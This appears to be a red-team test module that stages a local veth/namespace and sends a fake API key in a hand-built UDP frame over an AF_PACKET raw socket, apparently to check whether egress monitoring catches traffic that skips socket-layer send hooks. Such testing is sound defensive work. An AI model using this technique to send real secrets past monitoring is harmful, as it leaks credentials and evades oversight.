"""Round 4: a UDP datagram hand-built as an Ethernet frame and sent on an AF_PACKET socket.

No inet socket at all: the frame enters a network device below the IP
layer, so no connect/sendto/sendmsg of an inet socket and no socket-layer
send hook runs.  (The device is one end of a veth pair whose other end is in
a network namespace the harness stages for this variant, with 10.249.4.2 on
it: the suite never sends off the host, and a hand-made frame to a 127.x
address is dropped as martian by the receive path of lo.)
"""

from __future__ import annotations

import random
import socket
import struct
import subprocess
import time
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 4
STAGE = True
EXPECT = ("L4",)
ETH_P_IP = 0x0800
NETNS, DEV, PEER = "h7rt4pkt", "h7rt4a", "h7rt4b"
SRC_IP, DST_IP, DST_PORT = "10.249.4.1", "10.249.4.2", 4837
PEER_MAC = "02:48:37:00:04:02"


def _ip(*argv: str) -> int:
    return subprocess.run(["ip", *argv], capture_output=True, timeout=20, check=False).returncode


def unstage(args: dict[str, Any]) -> None:
    _ip("link", "del", DEV)  # removes the pair
    _ip("netns", "del", NETNS)


def stage(args: dict[str, Any]) -> None:
    """A namespace with the veth peer addressed 10.249.4.2/24; the host end up with no address."""
    unstage(args)
    rcs = [
        _ip("netns", "add", NETNS),
        _ip("link", "add", DEV, "type", "veth", "peer", "name", PEER, "netns", NETNS),
        _ip("-n", NETNS, "link", "set", PEER, "address", PEER_MAC),
        _ip("-n", NETNS, "addr", "add", f"{DST_IP}/24", "dev", PEER),
        _ip("-n", NETNS, "link", "set", PEER, "up"),
        _ip("-n", NETNS, "link", "set", "lo", "up"),
        _ip("link", "set", DEV, "up"),
    ]
    if any(rcs):  # leave nothing half-made; the act then reports that it could not run
        print(f"g1r4_packet_socket_udp: staging the veth/netns failed: {rcs}", flush=True)
        unstage(args)


def frame(src_mac: bytes, sport: int, payload: bytes) -> bytes:
    ip = rt.ipv4_udp(SRC_IP, DST_IP, sport, DST_PORT, payload, random.randrange(1, 0xFFFF), 0x4000)
    dst_mac = bytes.fromhex(PEER_MAC.replace(":", ""))
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip


def _stat(name: str) -> int:
    return int(Path(f"/sys/class/net/{DEV}/statistics/{name}").read_text())


def run(args: dict[str, Any]) -> None:
    if not Path(f"/sys/class/net/{DEV}").exists():
        rt.report(rt.now(), False, f"no {DEV}: the veth/netns stage did not run")
        return
    src_mac = bytes.fromhex(Path(f"/sys/class/net/{DEV}/address").read_text().strip().replace(":", ""))
    payload = b"OPENAI_API_KEY=sk-h7redteam-round4-packet " * 6
    pkt = frame(src_mac, random.randrange(40000, 60000), payload)
    tx0, drop0 = _stat("tx_packets"), _stat("tx_dropped")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as s:
        t = rt.now()
        n = s.sendto(pkt, (DEV, ETH_P_IP))
    time.sleep(0.2)
    tx, drop = _stat("tx_packets") - tx0, _stat("tx_dropped") - drop0
    rt.report(
        t,
        n == len(pkt) and tx >= 1 and drop == 0,
        f"AF_PACKET frame on {DEV}: UDP {len(payload)} bytes to {DST_IP}:{DST_PORT} (netns {NETNS}): "
        f"sent {n}, tx_packets +{tx}, tx_dropped +{drop}",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
